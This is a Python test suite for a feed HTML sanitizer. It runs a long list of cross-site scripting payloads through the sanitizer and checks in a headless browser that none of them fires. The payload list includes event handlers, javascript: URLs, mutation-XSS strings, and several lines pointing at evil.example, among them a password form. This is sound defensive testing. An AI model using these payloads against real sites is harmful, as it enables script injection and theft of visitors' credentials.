from __future__ import annotations

import html as html_text
import re
from typing import NoReturn

import bleach
import pytest
from bleach._vendor import html5lib
from bs4 import BeautifulSoup, Tag
from hypothesis import given
from hypothesis import strategies as st
from playwright.sync_api import sync_playwright

from feeds.sanitizer import _ATTRIBUTES, _PLAIN_TAGS, _SCHEMES, fail_closed, sanitize

TAGS = _PLAIN_TAGS | (_ATTRIBUTES.keys() - {"*"})
URL_ATTRIBUTES = {"href", "src", "poster"}
# What an attack calls. In the browser's test it is a function that leaves a trace.
HIT = "hit()"

# Moves, focuses and clicks wherever a visitor could; links to the web would only lead away from the page.
TOUCH_ALL = """() => {
    for (const element of document.body.querySelectorAll('*')) {
        element.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
        element.dispatchEvent(new FocusEvent('focus'));
        if (element.matches('a[href]:not([href^=http])')) element.click();
    }
}"""

ATTACKS = [
    # Scripts, in every case and guise
    f"<script>{HIT}</script>",
    f"<SCRIPT>{HIT}</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<script/x>{HIT}</script>",
    f"<script\n>{HIT}</script\n>",
    f"<<script>{HIT}//<</script>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><script href=data:text/javascript,{HIT} /></svg>",
    f"<math><script>{HIT}</script></math>",
    # Handlers
    f"<img src=x onerror={HIT}>",
    f"<img src=x OnErRoR={HIT}>",
    f"<img/src=x/onerror={HIT}>",
    f"<img src=x\nonerror\n=\n{HIT}>",
    f'<img src="x` `<script>{HIT}</script>"` `>',
    f'"><img src=x onerror={HIT}>',
    f"'><img src=x onerror={HIT}>",
    f"--><img src=x onerror={HIT}>",
    f"]]><img src=x onerror={HIT}>",
    f"</textarea><img src=x onerror={HIT}>",
    f"</title></style></noscript><img src=x onerror={HIT}>",
    f"<svg onload={HIT}>",
    f"<svg/onload={HIT}//",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={HIT}>",
    f"<body onload={HIT}>",
    f"<video src=x onerror={HIT}></video>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}></audio>",
    f"<video poster=x onloadstart={HIT} src=x></video>",
    f"<details open ontoggle={HIT}><summary>x</summary></details>",
    f"<p onmouseover={HIT}>x</p>",
    f"<a href=https://a.example onclick={HIT}>x</a>",
    f"<input autofocus onfocus={HIT}>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<div style=animation-name:x onanimationstart={HIT}>x</div>",
    f"<progress onfocus={HIT} tabindex=1 autofocus></progress>",
    f"<img src=https://a.example/x onerror={HIT}>",
    f"<audio src=https://a.example/x onerror={HIT}></audio>",
    f"<video src=https://a.example/x poster=https://a.example/y onerror={HIT}></video>",
    # Addresses that run code
    f"<a href=javascript:{HIT}>x</a>",
    f"<a href=JaVaScRiPt:{HIT}>x</a>",
    f"<a href=' javascript:{HIT}'>x</a>",
    f"<a href='java\tscript:{HIT}'>x</a>",
    f"<a href='java\nscript:{HIT}'>x</a>",
    f"<a href='\x01javascript:{HIT}'>x</a>",
    f"<a href='java\x00script:{HIT}'>x</a>",
    f"<a href='&#106;avascript:{HIT}'>x</a>",
    f"<a href='&#x6A;avascript&colon;{HIT}'>x</a>",
    f"<a href='javascript&Tab;:{HIT}'>x</a>",
    f"<a href='vbscript:{HIT}'>x</a>",
    f"<a href='data:text/html,<script>{HIT}</script>'>x</a>",
    f"<a href='view-source:javascript:{HIT}'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://a.example/1'>x</a>",
    "<a href='/logout'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<img src=data:image/svg+xml,<svg/>>",
    f"<img src=javascript:{HIT}>",
    f"<video poster=javascript:{HIT}></video>",
    f"<source src=javascript:{HIT}>",
    "<audio src='data:audio/mp3,x'></audio>",
    f"<svg><a xlink:href=javascript:{HIT}><text>x</text></a></svg>",
    f"<math href=javascript:{HIT}>x</math>",
    f"<form action=javascript:{HIT}><button>x</button></form>",
    f"<button formaction=javascript:{HIT}>x</button>",
    f"<object data=javascript:{HIT}></object>",
    "<a ping=https://evil.example href=https://a.example>x</a>",
    # Frames, documents, forms, styles
    f"<iframe src=javascript:{HIT}></iframe>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<form action=//evil.example><input name=password></form>",
    "<p id=feed-address name=body>x</p>",
    "<img srcset='//evil.example/x 2x'>",
    "<a href=https://a.example target=_blank rel=opener>x</a>",
    # Mutations: harmless to one parser, harmful to the next
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'></noscript>",
    f"<svg></p><style><a id='</style><img src=1 onerror={HIT}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={HIT}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={HIT} src>'>",
    f"<template><script>{HIT}</script></template>",
    f"<select><template><img src=x onerror={HIT}></template></select>",
    f"<xmp><p title='</xmp><img src=x onerror={HIT}>'></xmp>",
    f"<plaintext><img src=x onerror={HIT}>",
    f"<!--><img src=x onerror={HIT}>-->",
    f"<!--[if gte IE 4]><script>{HIT}</script><![endif]-->",
    f"<![CDATA[<img src=x onerror={HIT}>]]>",
    f"<?xml-stylesheet href='javascript:{HIT}'?>",
    f"<p title='\"><img src=x onerror={HIT}>'>x</p>",
    f"<img alt='\"><script>{HIT}</script>' src=https://a.example/x>",
    f"<p title=`><img src=x onerror={HIT}>`>x</p>",
    f"<a href='https://a.example/\"onmouseover=\"{HIT}'>x</a>",
    f"<table><caption><img src=x onerror={HIT}><td>x",
    "<p" * 500,
    "<b>" * 500,
]


def elements(html: str) -> list[tuple[str, list[tuple[str, str]], str]]:
    """Name, sorted attributes and text of each element, as a parser of its own reads them."""
    found = []
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        assert isinstance(tag, Tag)
        attributes = sorted(
            (name, " ".join(value) if isinstance(value, list) else value) for name, value in tag.attrs.items()
        )
        found.append((tag.name, attributes, tag.get_text()))
    return found


def test_the_allow_list_has_nothing_that_runs_styles_names_or_leads_away() -> None:
    """Said apart from the list, since all other tests take it as given."""
    attributes = set().union(*_ATTRIBUTES.values())
    assert not {name for name in attributes if name.startswith("on")}
    assert not attributes & {
        "style", "id", "name", "srcdoc", "srcset", "action", "formaction", "ping", "target", "data", "background", "is",
        "slot", "xlink:href", "http-equiv", "contenteditable", "popover", "tabindex", "autofocus", "form", "usemap",
    }  # fmt: skip
    assert not TAGS & {
        "script", "style", "link", "meta", "base", "iframe", "frame", "object", "embed", "applet", "form", "input",
        "button", "textarea", "select", "svg", "math", "template", "noscript", "title", "xmp", "plaintext", "portal",
    }  # fmt: skip
    assert not _SCHEMES & {"javascript", "data", "vbscript", "file", "blob"}


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: ascii(attack[:60]))
def test_an_attack_leaves_nothing_but_the_allow_list(attack: str) -> None:
    for name, attributes, _ in elements(sanitize(attack)):
        assert name in TAGS
        for attribute, value in attributes:
            if (name, attribute) != ("a", "rel"):
                assert attribute in _ATTRIBUTES["*"] | _ATTRIBUTES.get(name, set())
            if attribute in URL_ATTRIBUTES:
                assert re.match(r"(https?|tg)://|(mailto|tel):", value)


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: ascii(attack[:60]))
def test_another_sanitizer_finds_nothing_left_to_remove(attack: str) -> None:
    safe = sanitize(attack)
    attributes = {name: sorted(allowed) for name, allowed in _ATTRIBUTES.items()}
    attributes["a"] = ["href", "rel"]
    second = bleach.clean(safe, tags=TAGS, attributes=attributes, protocols=_SCHEMES, strip=True)
    assert elements(second) == elements(safe)


def test_no_attack_runs_in_a_browser() -> None:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        try:
            page = browser.new_page()
            page.add_init_script("window.hits = 0; window.hit = () => { window.hits++ }")
            page.route("**/*", lambda route: route.abort())

            def hits(bodies: list[str]) -> int:
                page.goto("about:blank")
                page.set_content("<!doctype html>" + "".join(f"<div>{body}</div>" for body in bodies))
                page.evaluate(TOUCH_ALL)
                page.wait_for_timeout(200)
                return int(page.evaluate("window.hits"))

            # The browser is no witness unless it falls for the attacks themselves.
            naked = [f"<img src=x onerror={HIT}>", f"<p onmouseover={HIT}>x</p>", f"<a href=javascript:{HIT}>x</a>"]
            assert hits(naked) == 3
            assert hits([sanitize(attack) for attack in ATTACKS]) == 0
        finally:
            browser.close()


@pytest.mark.parametrize(
    "html",
    [
        "<p>std::vector&lt;int&gt; &amp;amp; AT&amp;T</p>",
        '<p dir="auto" lang="de">a<br>b</p>',
        "<b><i><u><s>x</s></u></i></b><strong>x</strong><em>x</em>",
        '<pre><code class="language-cpp">a\n  b</code></pre>',
        "<blockquote>x</blockquote>",
        '<details class="spoiler"><summary>Spoiler</summary><p>x</p></details>',
        '<img src="https://a.example/x" width="10" height="20" alt="&quot;a&quot;" loading="lazy">',
        '<figure><img src="https://a.example/x" alt=""><figcaption>x</figcaption></figure>',
        "<table><caption>x</caption><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>",
        '<time datetime="2026-11-30T12:00:00+00:00">noon</time>',
        '<progress max="100" value="42"></progress>',
        '<ol start="3"><li value="5">x</li></ol>',
        "<h3>x</h3><hr><p>H<sub>2</sub>O<sup>1</sup><mark>x</mark></p>",
        '<div class="album"><p>x</p></div>',
    ],
)
def test_what_posts_are_made_of_passes_as_it_is(html: str) -> None:
    assert sanitize(html) == html


def test_players_keep_what_they_need() -> None:
    html = (
        '<video src="https://a.example/v" poster="https://a.example/p" width="10" height="20" controls preload="none">'
        '<source src="https://a.example/w" type="video/mp4"></video>'
        '<audio src="https://a.example/a" controls preload="none"></audio>'
    )
    assert elements(sanitize(html)) == elements(html)


def test_a_silent_film_may_play_by_itself_and_a_sound_may_not() -> None:
    html = '<video src="https://a.example/v" autoplay loop muted playsinline></video>'
    assert elements(sanitize(html)) == elements(html)
    assert "autoplay" not in sanitize('<audio src="https://a.example/a" autoplay></audio>')


@pytest.mark.parametrize(
    "url",
    ["https://a.example/?a=1&b=2", "http://a.example", "tg://resolve?domain=a", "mailto:a@a.example", "tel:+123"],
)
def test_links_of_allowed_schemes_stay_and_pass_no_credit_or_opener(url: str) -> None:
    (link,) = elements(sanitize(f'<a href="{html_text.escape(url)}">x</a>'))
    assert link == ("a", [("href", url), ("rel", "noopener nofollow")], "x")


def test_a_link_that_is_dropped_leaves_its_text() -> None:
    assert elements(sanitize("<a href='javascript:x'>words</a>")) == [("a", [("rel", "noopener nofollow")], "words")]


def test_what_xml_forbids_is_gone() -> None:
    assert sanitize("a\x00b\x1b\ud800\uffff") == "ab"


class PanicException(BaseException):
    """Named like the one that native code raises."""


@pytest.mark.parametrize("fault", [ValueError("x"), RecursionError(), PanicException("x")])
def test_a_failing_parser_gives_visible_text_never_raw_html(fault: BaseException) -> None:
    def clean(_: str) -> NoReturn:
        raise fault

    assert fail_closed(clean, "<b>'a' & b</b>") == "&lt;b&gt;&#x27;a&#x27; &amp; b&lt;/b&gt;"


def test_an_interrupt_is_not_taken_for_a_failing_parser() -> None:
    def clean(_: str) -> NoReturn:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        fail_closed(clean, "x")


FRAGMENTS = [
    "<p>", "</p>", "<div>", "</div>", "<b>", "</i>", "<a href='https://a.example'>", "</a>", "<table>", "<td>", "</tr>",
    "<object>", "</object>", "<svg>", "<math>", "<!--", "-->", "<li>", "</ul>", "<h2>", "</h3>", "<details>",
    "<summary>", "</article>", "</main>", "<select>", "<option>", "<template>", "<style>", "<pre>", "<textarea>",
    "<title>", "<blockquote>", "<body>", "</html>", "<video>", "<button>", "<form>", "text", "&lt;", "'", '"', ">",
]  # fmt: skip


@given(st.lists(st.sampled_from(FRAGMENTS), max_size=25).map("".join))
def test_no_post_swallows_or_closes_what_comes_after_it(html: str) -> None:
    page = f"<main><article>{sanitize(html)}</article><article>next</article></main><p>end</p>"
    body = html5lib.parse(page, namespaceHTMLElements=False).find("body")
    main, end = list(body)
    assert [child.tag for child in main] == ["article", "article"]
    assert "".join(main[1].itertext()) == "next"
    assert end.text == "end"


@given(st.text())
def test_escaped_text_survives_as_typed(typed: str) -> None:
    safe = sanitize(f"<p>{html_text.escape(typed)}</p>")
    parsed = html5lib.parse(safe, namespaceHTMLElements=False).find("body")
    kept = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", "", typed)
    assert "".join(parsed.itertext()) == re.sub("\r\n?", "\n", kept)
